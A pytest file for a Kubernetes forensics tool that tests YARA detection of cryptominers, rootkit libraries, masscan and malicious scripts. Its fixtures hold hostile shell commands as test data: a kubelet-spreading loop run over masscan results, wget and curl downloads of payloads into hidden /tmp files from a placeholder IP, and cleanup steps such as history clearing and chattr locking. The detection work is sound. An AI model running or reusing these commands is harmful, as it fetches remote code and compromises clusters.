"""YARA rules over programs and scripts: what they find, what they must not, and how a finding is told."""

from __future__ import annotations

import hashlib
import sys
from pathlib import Path

import pytest

from kubewitness.detect.host import yara
from kubewitness.detect.host.finding import HostFinding
from kubewitness.detect.host.yara_rules import Scanned, YaraRules
from kubewitness.evidence.opening import Source, walk
from kubewitness.model.host import Host, HostFile
from kubewitness.rules.attack import techniques
from kubewitness.rules.loader import content_folder
from kubewitness.sources.host.hosts import HostEvidence
from tests.detect.host.making import CONTAINER, file, process

ELF = b"\x7fELF\x02\x01\x01" + bytes(9)
SHARED, RELOCATABLE = b"\x03\x00", b"\x01\x00"
MINER = b"\0".join((ELF, b"donate-level", b"rig-id", b"rx/0", b"cn-heavy/xhv", b"stratum+tcp://", b"text"))
HIDER = b"\0".join((ELF + SHARED, b"/proc/self/fd/%d", b"/proc/%s/stat", b"readdir", b"dlsym", b"%d (%[^)]s", b""))
MODULE = b"\0".join((ELF + RELOCATABLE, b"give_root", b"module_hide", b"is_invisible", b"diamorphine_secret", b""))
MASSCAN = b"\0".join((ELF, b"masscan", b"adapter-ip", b"excludefile", b"max-rate", b"syn-cookie", b""))
SPREADER = """#!/bin/bash
masscan $RANGE -p10250 --rate=20000 > found
for x in $(cat found); do curl -sk https://$x:10250/run/$ns/$pod/$c -d cmd="id"; done
"""
CHIMAERA = "wget http://203.0.113.35/chimaera/bin/x -O /tmp/.x1mr\nchmod +x /tmp/.x1mr\nhistory -c\n"
INSTALLER = """#!/bin/sh
pkill -9 kinsing; pkill -9 kdevtmpfsi
curl -s http://203.0.113.35/x -o /tmp/x
chattr +i /tmp/x
"""


def programs(folder: Path, *contents: bytes, host: Host | None = None) -> HostEvidence:
    machine = host or Host("n")
    sources = list[tuple[Host, Source]]()
    for number, content in enumerate(contents):
        path = folder / f"program{number}"
        path.write_bytes(content)
        sources += [(machine, source) for source in walk([str(path)])]
    return HostEvidence(hosts=[machine], executables=sources)


def scripts(*files: HostFile) -> HostEvidence:
    return HostEvidence(hosts=[Host("n", files=list(files))])


def found(result: Scanned) -> list[HostFinding]:
    return [finding for findings in result.findings.values() for finding in findings]


def names(result: Scanned) -> set[str]:
    return {finding.rule for finding in found(result)}


@pytest.mark.parametrize(
    ("content", "rule"),
    [
        (MINER, "yara/xmrig_family"),
        (HIDER, "yara/process_hiding_library"),
        (MODULE, "yara/diamorphine_module"),
        (MASSCAN, "yara/masscan"),
    ],
)
def test_a_program_is_known_by_what_it_holds(tmp_path: Path, content: bytes, rule: str) -> None:
    assert names(yara.scan(programs(tmp_path, content))) == {rule}


@pytest.mark.parametrize(
    "content",
    [
        MINER.replace(ELF, b"# a page about xmrig\n"),  # text about miners is no miner
        MINER.replace(b"donate-level", b"").replace(b"rig-id", b""),  # a sensor that knows algorithms and pools
        MINER.replace(b"rx/0", b""),  # one algorithm alone
        HIDER.replace(b"%d (%[^)]s", b"%d"),  # a library that reads /proc
        HIDER.replace(SHARED, RELOCATABLE, 1),
        MASSCAN.replace(b"syn-cookie", b""),
        MODULE.replace(b"module_hide", b"").replace(b"diamorphine", b"other"),
        ELF + b"nothing",
    ],
)
def test_a_program_that_only_knows_the_words_is_silent(tmp_path: Path, content: bytes) -> None:
    assert not names(yara.scan(programs(tmp_path, content)))


@pytest.mark.parametrize("path", ["/bin/ls", "/bin/sh", "/sbin/ip", sys.executable])
def test_programs_of_this_machine_are_silent(path: str) -> None:
    if not Path(path).exists():
        pytest.skip("not here")
    sources = [(Host("n"), source) for source in walk([path])]
    result = yara.scan(HostEvidence(executables=sources))
    assert (result.items, names(result)) == (1, set())


@pytest.mark.parametrize(
    ("text", "rule"),
    [(SPREADER, "kubelet_spreader"), (CHIMAERA, "chimaera_script"), (INSTALLER, "miner_installer")],
)
def test_a_script_is_known_by_what_it_does(text: str, rule: str) -> None:
    (finding,) = found(yara.scan(scripts(file("/tmp/.a.sh", text))))
    assert (finding.rule, finding.severity, finding.kind) == (f"yara/{rule}", "high", "intrusion")
    assert finding.subject.startswith("/tmp/.a.sh")


@pytest.mark.parametrize(
    "text",
    [
        "#!/bin/sh\ncurl -sk https://$NODE:10250/healthz\n",
        "#!/bin/sh\nmasscan 10.0.0.0/24 -p10250 --rate=100\n",  # searches, asks nothing
        "#!/bin/sh\npkill -9 kinsing; rm -f /tmp/kdevtmpfsi\n",  # an administrator cleans up
        "The worm fetches /chimaera/sh/setup_xmr.sh and writes /tmp/.x1mr.\n",
        *(path.read_text(encoding="utf-8") for path in sorted((content_folder() / "yara").glob("*.yar"))),
        *(path.read_text(encoding="utf-8") for path in sorted((content_folder() / "campaigns").glob("*.yml"))),
    ],
)
def test_text_about_it_and_our_own_rules_are_silent(text: str) -> None:
    result = yara.scan(scripts(file("/tmp/.note", text)))
    assert (result.items, names(result)) == (1, set())


def test_ordinary_files_of_a_machine_are_not_scanned() -> None:
    assert yara.scan(scripts(file("/etc/motd", CHIMAERA))).items == 0


def test_a_finding_cites_places_and_names_of_strings_never_their_bytes(tmp_path: Path) -> None:
    (finding,) = found(yara.scan(programs(tmp_path, MINER)))
    place, line = finding.places[0]
    assert (place.line, place.offset, place.length) == (0, MINER.index(b"donate-level"), len(b"donate-level"))
    assert "$option_donate" in line
    assert not any("donate-level" in told for _, told in finding.places)


def test_a_finding_names_the_process_with_the_same_hash_and_its_pod(tmp_path: Path) -> None:
    digest = hashlib.sha256(MINER).hexdigest()
    running = [
        process("./x", sha256=digest, container=CONTAINER, pod_uid="uid-1"),
        process("./x", sha256="0" * 64),
    ]
    (finding,) = found(yara.scan(programs(tmp_path, MINER, host=Host("n", processes=running))))
    assert (finding.process, finding.container, finding.pod_uid) == (running[0], CONTAINER, "uid-1")


def test_each_container_that_runs_it_has_a_finding(tmp_path: Path) -> None:
    digest = hashlib.sha256(MINER).hexdigest()
    running = [process("./x", sha256=digest, container=character * 64) for character in "aab"]
    findings = found(yara.scan(programs(tmp_path, MINER, host=Host("n", processes=running))))
    assert [(finding.container[0], finding.count) for finding in findings] == [("a", 2), ("b", 1)]


def test_a_process_known_by_events_alone_is_not_taken_for_the_program(tmp_path: Path) -> None:
    machine = Host("n", processes=[process("x", executable="", told_by="falco")])
    (finding,) = found(yara.scan(programs(tmp_path, MINER, host=machine)))
    assert finding.process is None


def test_the_same_program_twice_is_told_once(tmp_path: Path) -> None:
    result = yara.scan(programs(tmp_path, MINER, MINER))
    assert (result.items, len(found(result))) == (1, 1)


def test_only_the_beginning_of_a_huge_program_is_scanned_and_that_is_said(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(yara, "MAX_BYTES", 64)
    result = yara.scan(programs(tmp_path, ELF + bytes(100) + MINER))
    assert not names(result)
    assert "first 64 bytes" in result.notes[0].reason


def test_a_scan_that_takes_too_long_ends_and_says_so(tmp_path: Path) -> None:
    moments = iter(range(0, 10_000, 400))
    result = yara.scan(programs(tmp_path, MINER, HIDER, MODULE), clock=lambda: float(next(moments)))
    assert result.items == 1
    assert "too long" in result.limitations[0].en


def test_without_the_library_coverage_says_that_nothing_was_scanned(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "yara_x", None)
    result = yara.scan(programs(tmp_path, MINER))
    assert not found(result)
    assert "yara-x" in result.limitations[0].en
    assert YaraRules((tmp_path,)).errors


OWN = 'rule mine { meta: score = 85 mitre_attack = "T1105, T9999" strings: $a = "needle" condition: $a }\n'


def test_rules_of_others_run_and_what_they_do_not_say_is_the_middle(tmp_path: Path) -> None:
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "own.yar").write_text(OWN + 'rule other { strings: $a = "needle" condition: $a }\n')
    (folder / "same.yara").write_text(OWN)
    findings = found(yara.scan(programs(tmp_path, ELF + b"needle"), YaraRules((folder,))))
    assert [(f.rule, f.severity, f.kind, f.techniques) for f in findings] == [
        ("yara/mine", "high", "activity", ("T1105",)),
        ("yara/mine", "high", "activity", ("T1105",)),
        ("yara/other", "medium", "activity", ()),
    ]


def test_a_wrong_rule_is_told_with_file_and_line_and_costs_no_other(tmp_path: Path) -> None:
    own = tmp_path / "own.yar"
    own.write_text(OWN + "rule wrong { condition: $nothing }\n")
    rules = YaraRules((own, tmp_path / "absent.yar"))
    assert [(error.path, error.line) for error in rules.errors] == [(tmp_path / "absent.yar", None), (own, 2)]
    assert "yara/mine" in names(yara.scan(programs(tmp_path, ELF + b"needle"), rules))
    empty = tmp_path / "empty"
    empty.mkdir()
    assert "no YARA rule file" in str(YaraRules((empty,)).errors[0])


def test_every_shipped_rule_compiles_and_speaks_both_languages() -> None:
    rules = YaraRules()
    assert not rules.errors
    assert rules.rules
    seen = set[str]()
    for rule in rules.rules:
        told = dict(rule.metadata)
        seen.add(rule.identifier)
        for name in ("title", "description", "runbook", "falsepositives"):
            assert told[name]
            assert any("\u4e00" <= character <= "\u9fff" for character in str(told[f"{name}_zh"])), rule.identifier
        assert set(str(told["technique"]).split(", ")) <= techniques().keys()
        assert {"severity", "confidence", "kind", "reference", "date"} <= told.keys()
    assert len(seen) >= 10


def test_hostile_bytes_are_scanned_and_nothing_of_them_is_shown(tmp_path: Path) -> None:
    own = tmp_path / "own.yar"
    own.write_text('rule r { strings: $a = "\\x1b[31m" condition: $a }\n')
    (finding,) = found(yara.scan(programs(tmp_path, b"\x1b[31m" * 5000), YaraRules((own,))))
    assert "\x1b" not in "".join(line for _, line in finding.places) + finding.subject
